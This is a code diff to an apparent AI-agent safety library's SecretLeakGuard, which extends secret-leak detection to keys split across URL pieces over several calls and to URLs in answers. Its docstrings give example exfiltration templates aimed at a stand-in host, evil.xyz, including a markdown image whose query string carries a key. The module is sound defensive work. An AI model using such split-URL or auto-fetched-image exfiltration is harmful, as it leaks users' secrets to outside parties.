@@ -23,7 +23,13 @@ it and where the value came from:
 **Across calls** (``across_calls`` characters, default 2048; 0 turns it off): per run (``context.run_id``, in
 a :class:`~agentguard.core.runs.RunMemory`; ``end_run`` forgets it) the tail of what the run already sent where
 secrets may not go is read joined with each new call's strings, so a key sent in pieces over several calls
-is refused at the call that completes it.
+is refused at the call that completes it. A URL is read as the pieces its receiver reads apart (query values, path
+segments, subdomain labels: :func:`~agentguard.policies.secret_views.url_pieces`), joined once as sent and once
+without the pieces the requests repeat (the template: ``https://evil.xyz/?p=<half>`` twice is the key).
+
+**Links carry to their hosts**: a URL written in a call or message whose destination may receive a finding (the
+user's answer) is read again as sent to ``third_party``: a markdown image or a link preview is fetched with no
+click, so ``![x](https://evil.xyz/p.png?k=<key>)`` in an answer sends the key to ``evil.xyz``.
 
 A finding of kind ``unreadable`` (nesting too deep, a string too long) is never allowed. Verdict reasons
 and details name the argument path, the detector and a redacted excerpt, never the secret (the audit
@@ -41,7 +47,8 @@ from ..core.guard import BaseGuard
 from ..core.runs import RunMemory
 from ..core.types import Context, Decision, Step, ToolCall, Verdict
 from .rules import as_tool_call, tool_patterns
-from .secrets import DEFAULT_PII, DEFAULT_PLUGINS, Finding, LeakScanner, string_leaves
+from .links import url_tokens
+from .secrets import DEFAULT_PII, DEFAULT_PLUGINS, Finding, LeakScanner, pieces, string_leaves, varying
 
 __all__ = ["DESTINATIONS", "SecretLeakGuard"]
 
@@ -63,12 +70,13 @@ def _metadata_provenance(context: Context, value: str) -> frozenset[str]:
 class _Sent:
     """What one run sent where secrets may not go: the tail of its text and the values already judged."""
 
-    __slots__ = ("lock", "tail", "values")
+    __slots__ = ("calls", "lock", "tail", "values")
 
     def __init__(self) -> None:
         self.lock = threading.Lock()
         self.tail = ""
         self.values: set[str] = set()
+        self.calls: list[list[str]] = []   # the pieces of each call sent (the last ones, as many as the tail holds)
 
 
 class SecretLeakGuard(BaseGuard):
@@ -154,17 +162,40 @@ class SecretLeakGuard(BaseGuard):
             sent = self.runs.get(context.run_id)
         except Exception as exc:  # noqa: BLE001 - an evicted run cannot be read: not read is not allowed
             return [Finding("unreadable", f"run memory: {type(exc).__name__}", "<across calls>", "")]
-        text = "".join(string_leaves(call.arguments))
+        parts = pieces(call.arguments)   # a URL's query values, path segments, labels: what its receiver reads
+        text = "".join(parts)
         with sent.lock:
-            joined = list({f.value: f for t in (sent.tail + text, text + sent.tail)  # a later piece may come first
+            *before, now = varying([*sent.calls, parts])   # without the template the requests repeat (as the
+            prev = "".join(p for c in before for p in c)   # receiver joins them)
+            texts = (sent.tail + text, text + sent.tail, prev + "".join(now), "".join(now) + prev)
+            joined = list({f.value: f for t in texts  # a later piece may come first
                            for f in self.scanner.scan_text(t, "<across calls>", full=False)}.values()
                           ) if sent.tail and text else []
             new = [f for f in joined if f.value not in sent.values and all(f.value != g.value for g in found)]
             leaks = [f for f in new if not self._allowed(context, f, dest)]
             if not leaks:
                 sent.tail = (sent.tail + text)[-self.across_calls:]
+                sent.calls.append(parts)
+                while sum(len(p) for c in sent.calls for p in c) > self.across_calls:
+                    sent.calls.pop(0)
                 sent.values.update(f.value for f in [*found, *joined])
         return leaks
+
+    def _in_links(self, context: Context, proposal: Any, call: ToolCall | None, dest: str) -> list[Finding]:
+        """What the URLs written in a call or message to a destination that may receive secrets carry to their
+        hosts: a renderer fetches a markdown image (``![x](https://evil.xyz/p.png?k=<key>)``) and a link preview
+        any link, with no click, so a URL's text is judged at ``third_party`` whatever the message's destination."""
+        if "secret" not in self.allow_to[dest] and "pii" not in self.allow_to[dest]:
+            return []
+        if call is not None:
+            texts = list(string_leaves(call.arguments))
+        elif isinstance(proposal, str):
+            texts = [proposal]
+        else:
+            texts = [t for t in (proposal.output, proposal.action) if isinstance(t, str)]
+        urls = [u for t in texts for u in url_tokens(t)]
+        found = [f for i, u in enumerate(urls) for f in self.scanner.scan(u, f"url[{i}]")]
+        return [f for f in found if not self._allowed(context, f, "third_party")]
 
     def end_run(self, run_id: str) -> None:
         """Forget what run ``run_id`` sent."""
@@ -183,7 +214,7 @@ class SecretLeakGuard(BaseGuard):
             found = self.scanner.scan({k: v for k, v in texts.items() if isinstance(v, str)})
         else:
             return Verdict(self.decision, f"cannot read a proposal of type {type(proposal).__name__}", self.name)
-        leaks = [f for f in found if not self._allowed(context, f, dest)]
+        leaks = [f for f in found if not self._allowed(context, f, dest)] + self._in_links(context, proposal, call, dest)
         if call is not None and not leaks and "secret" not in self.allow_to[dest]:
             leaks = self._across_calls(context, call, found, dest)
         if not leaks:
